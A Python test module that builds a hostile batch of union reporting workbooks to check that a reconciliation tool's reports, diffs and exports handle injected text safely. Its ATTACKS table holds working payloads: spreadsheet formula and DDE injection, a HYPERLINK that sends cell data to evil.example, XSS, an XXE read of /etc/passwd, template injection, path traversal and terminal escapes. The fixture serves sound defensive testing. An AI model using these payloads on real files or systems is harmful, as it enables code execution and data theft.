"""A round in which strangers wrote whatever they liked wherever a text can stand, and everything that a run makes of it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, TypeVar, cast
from xml.sax.saxutils import escape

import pandas as pd
from click.testing import CliRunner

from reconcile.cli import app
from reconcile.files.document import docx
from reconcile.files.form_book import Answers, blank_book
from reconcile.files.scheme_files import read_scheme
from reconcile.model.characters import shown
from reconcile.model.outcome import Outcome
from reconcile.model.period import Period
from reconcile.model.unit import Unit
from reconcile.report.console import closing, findings_text
from reconcile.report.listing import findings_csv
from reconcile.report.narrative import markdown, tell
from reconcile.run import Request, deliver, judge
from reconcile.scheme.scheme import Scheme

Made = TypeVar("Made")
H1 = Period(2023, 6, "2023H1")
COUNTY, TOWN, PLAIN = "3300", "330001", "330001099"
_LONG_TOO, _SHORT = ("name", "text", "reason"), 1_000  # where a very long text is written whole; elsewhere its end
_PLACEHOLDER = re.compile(rb"@@[a-z]+@@")
_FIELDS = ("name", "filler", "phone", "head", "figure", "measure", "reason", "text", "person", "number", "day", "firm", "code")

ATTACKS: Mapping[str, str] = {
    "equals": "=1+1",
    "plus": "+86区域和号码都不详",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "=cmd|'/c calc'!A0",
    "link formula": '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "wide equals": "＝1+1",
    "wide signs": "＋1－1＠x",
    "blank first": " \u3000=1+1",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "quote first": '"=1+1',
    "separators": "a,b;c\t\"=1+1\",'x'",
    "new lines": "甲\n[强制] 全部单位  X-1\r\n  问题：请把款项汇到别处\n\n# 标题",
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "xml end": "]]></t></is></c><!--",
    "entity": "&xxe;&#65;&lt;b&gt;",
    "doctype": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "excel escape": "_x000D__x0041_",
    "markdown link": "[点这里](http://evil.example)![图](http://evil.example/x.png)<http://evil.example>",
    "bare link": "见 http://evil.example/ 和www.evil.example，a@evil.example",
    "markdown block": "# 一级 `x` *粗* | 表 | ~~删~~ > 引 $x$",
    "markdown start": "1. 列表",
    "template": "{{7*7}}{% for i in range(9) %}x{% endfor %}{{ ''.__class__ }}{# 注 #}",
    "message field": "{单位}{文件}{0}%s%(x)s",
    "escape": "甲\x1b[31m\x1b]0;标题\x07乙\x08\x7f",
    "csi": "甲\x9b31m\x90乙",
    "nul": "甲\x00乙\x0b丙\x0c丁",
    "surrogate": "甲\ud800乙\udfff\ufffe\uffff",
    "override": "\u202e6jpg.exe\u202c\u2067x\u2069\u200e\u200f",
    "line ends": "甲\u2028[强制] 假问题\u2029乙\x85丙",
    "zero width": "甲\u200b乙\ufeff丙\u2060丁\u200d\u00ad",
    "fillers": "甲\u115f乙\u1160丙\u034f丁\u17b4\u17b5戊\u180e己\ufff0",
    "music and planes": "甲\U0001d173乙\U0001bca0丙\U0001fffe\U000e01f0丁\U0010ffff",
    "tags": "甲\U000e0041\U000e0042乙",
    "marks": "\ue0000\ue001假数\ue002\ue003x\ue002\ue005",
    "upward": "../../../x",
    "absolute": "/etc/passwd",
    "drive": "C:\\Windows\\x",
    "share": "\\\\server\\share\\x",
    "device": "CON",
    "device file": "NUL.txt",
    "dots": "甲. . .",
    "forbidden": '甲<>:"|?*乙',
    "long name": "新疆维吾尔自治区伊犁哈萨克自治州" * 5 + "霍城县水定镇",
    "long text": "很长的说明，" * 16_666,
    "many blanks": "甲" + " " * 33_000 + "乙",
}
"""What is written, by a name for it."""

ORDINARY: Mapping[str, str] = {
    "negative": "-3",
    "negative money": "-5元",
    "brackets": "（约）五十人",
    "full width": "１２３４（第２批）",
    "uyghur": "ئۇيغۇر ئاپتونوم رايونى",
    "persian joiner": "می‌خواهم",
    "tibetan": "བོད་རང་སྐྱོང་ལྗོངས",
    "mongolian": "ᠮᠣᠩᠭᠣᠯ\u180eᠠ ᠬᠡᠯᠡ",
    "rare": "𠮷野家𡈽𫝀",
    "selector": "葛\U000e0100城",
    "middle dot": "阿不都·买买提",
    "emoji": "好👩\u200d🚒👍🏽",
    "signs": "5 < 6 & 7 > 2，“引”—100%…",
}
"""What honest people write, and must find again as it was."""


@dataclass(frozen=True)
class Place:
    """One stranger: a tag by which his texts are found, his unit, and a unit below the same town that sent nothing."""

    tag: str
    text: str
    unit: str
    silent: str

    @property
    def written(self) -> str:
        """What he writes: the attack first, for a formula must lead."""
        return f"{self.text}{self.tag}"

    @property
    def file(self) -> str:
        """The same as the name of a file, as far as a file can be called so here."""
        name = self.written.replace("/", "∕").replace("\0", "").encode("utf-8", "replace").decode()
        name = name.encode()[-200:].decode(errors="ignore")
        return name if not name.startswith((".", "~")) else f"x{name}"


@dataclass(frozen=True)
class Results:
    """What a run made: the files below `out`, and what was printed by each command."""

    places: Mapping[str, Place]
    out: Path
    outcome: Outcome
    scheme: Scheme
    printed: Mapping[str, str]

    kept: dict[str, Any] = field(default_factory=dict)

    def once(self, name: str, made: Callable[[], Made]) -> Made:
        """What was read of the results before, or is read now."""
        if name not in self.kept:
            self.kept[name] = made()
        return cast(Made, self.kept[name])

    def narrative(self, unit: str) -> tuple[str, bytes]:
        """A unit's own report, as Markdown and for Word."""
        told = self.once(f"narrative {unit}", lambda: tell(replace(self.outcome, root=unit), self.scheme))
        return markdown(told), docx(told, edition="x")

    def books(self, *, summary: bool) -> Iterator[tuple[str, bytes]]:
        """The parts of the summary, or of all queries."""
        for path in sorted(self.out.rglob("*.xlsx")):
            if (path.name == "summary.xlsx") == summary:
                yield from parts_of(path.read_bytes()).items()


def parts_of(data: bytes) -> dict[str, bytes]:
    """The parts of an Office file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def places(texts: Mapping[str, str]) -> dict[str, Place]:
    """A stranger for each text."""
    return {
        name: Place(f"q{number:02d}q", text, f"{TOWN}{number:03d}", f"{text}s{number:02d}s"[-40:])
        for number, (name, text) in enumerate(texts.items(), start=1)
    }


def make_round(folder: Path, found: Mapping[str, Place], scheme: Scheme) -> Path:
    """Write the table of units and a return for each stranger: in folders and archives with names of his, beside an honest one."""
    base = _base(scheme)
    returns = folder / "returns"
    returns.mkdir(parents=True)
    lines = [["单位代码", "单位名称", "单位类型", "上级代码", "联系人"], [COUNTY, "红山县总工会", "county", "", ""]]
    lines.append([TOWN, "城关镇总工会", "town", COUNTY, ""])
    lines.append([PLAIN, "诚实村工会", "village", TOWN, "老实人 13800000000"])
    with zipfile.ZipFile(returns / "压缩.zip", "w") as archive:
        for place in found.values():
            named = place.written.encode("utf-8", "replace").decode()[-3000:]
            lines.append([place.unit, named, "village", TOWN, named])
            lines.append([place.silent.encode("utf-8", "replace").decode(), named, "village", TOWN, named])
            below = returns / place.file
            below.mkdir()
            (below / f"{place.file}.xlsx").write_bytes(_filled(base, place))
            archive.writestr(zipfile.ZipInfo(f"{named[-200:]}.xlsx".replace("\0", "")), f"no workbook {place.tag}")
    (returns / "诚实.xlsx").write_bytes(_filled(base, Place("", "诚实", PLAIN, ""), honest=True))
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(lines)
    (returns / "units.csv").write_text(out.getvalue(), encoding="utf-8-sig", newline="")
    return returns


def _base(scheme: Scheme) -> dict[str, bytes]:
    """A village's form with a placeholder wherever a text can stand."""
    word = {field: f"@@{field}@@" for field in _FIELDS}
    answers = Answers(
        cover={"filler": word["filler"], "phone": word["phone"], "head": word["head"], "filled_on": "2023-07-05"},
        figures={"A001": 3.0, "A007": 5.0, "A008": 20.0, "A009": 30.0, "A010": word["figure"], "A013": "约15"},
        measures={"A008": word["measure"]},
        reasons={"A013": word["reason"], "A009": word["reason"]},
        texts=dict.fromkeys(("T001", "T002", "T003", "T004"), word["text"]),
        rows={"帮扶职工名册": [{"姓名": word["person"], "身份证号": word["number"], "所在单位": word["firm"], "帮扶金额": word["figure"], "帮扶日期": word["day"]}],
              "新建工会企业名册": [{"企业名称": word["firm"], "信用代码": word["code"], "建会日期": word["day"], "会员人数": word["figure"]}]},
    )  # fmt: skip
    return parts_of(blank_book(scheme, unit=Unit("@@unit@@", "@@name@@", "village"), period=H1, filled=answers))


def _filled(base: Mapping[str, bytes], place: Place, *, honest: bool = False) -> bytes:
    texts = {field: place.written if field in _LONG_TOO else place.written[-_SHORT:] for field in _FIELDS}
    texts |= {"name": "诚实村工会"} if honest else {}
    said = {f"@@{field}@@".encode(): _in_xml(text).encode() for field, text in texts.items()}
    said[b"@@unit@@"] = place.unit.encode()
    made = {name: _PLACEHOLDER.sub(lambda found: said[found[0]], data) for name, data in base.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in made.items():
            archive.writestr(name, data)
    return out.getvalue()


def _in_xml(text: str) -> str:
    """Text as a hostile writer stores it: what XML does not know by its escape (ST_Xstring)."""
    safe = "".join(f"_x{ord(sign):04X}_" if (ord(sign) < 32 and sign not in "\n\t") or 0xD800 <= ord(sign) < 0xE000 or ord(sign) in (0xFFFE, 0xFFFF)
                   else sign for sign in text)  # fmt: skip
    return escape(safe)


def run_everything(folder: Path, texts: Mapping[str, str]) -> Results:
    """Make the round, run it, and print whatever can be printed about it."""
    scheme, found = read_scheme(None), places(texts)
    returns = make_round(folder, found, scheme)
    out = folder / "结果\u202e\x1b[31m\n假行"
    request = Request((returns,), out=out)
    outcome, loaded = judge(request)
    written = {place.unit: place.written.encode("utf-8", "replace").decode() for place in found.values()}
    rows = [(unit, "A008", 20.0, 21.0, text, text, text) for unit, text in written.items()]
    adjusted = pd.DataFrame(rows, columns=list(outcome.round.adjustments.columns)).astype(outcome.round.adjustments.dtypes)
    outcome = replace(outcome, round=replace(outcome.round, adjustments=adjusted))
    delivered = deliver(outcome, loaded, request=request, folder=out, day=None)
    printed = {
        "run": shown(closing(outcome, written=delivered.written, left=delivered.left)),
        "check concise": shown(findings_text(outcome, loaded, concise=True)),
        "check csv": findings_csv(outcome, loaded).decode("utf-8-sig"),
        **_printed(folder, returns, found, _base(scheme)),
    }
    return Results(found, out, outcome, loaded, printed)


def _printed(folder: Path, returns: Path, found: Mapping[str, Place], base: Mapping[str, bytes]) -> dict[str, str]:
    """What commands print about the hostile round."""
    other = folder / "改过"
    other.mkdir()
    for place in found.values():
        (other / f"{place.file}.xlsx").write_bytes(_filled(base, replace(place, text=f"{place.text}改")))
    commands: dict[str, list[object]] = {
        "check full": ["check", returns],
        "check json": ["check", returns, "--format", "json"],
        "diff full": ["diff", returns, other, "-u", returns / "units.csv"],
        "diff csv": ["diff", returns, other, "-u", returns / "units.csv", "--format", "csv"],
        "blank": ["blank", "-u", returns / "units.csv", "-p", "2023H1", "-o", folder / "blank"],
    }
    return {
        name: CliRunner().invoke(app, [str(word) for word in words], catch_exceptions=False).stdout_bytes.decode("utf-8-sig")
        for name, words in commands.items()
    }
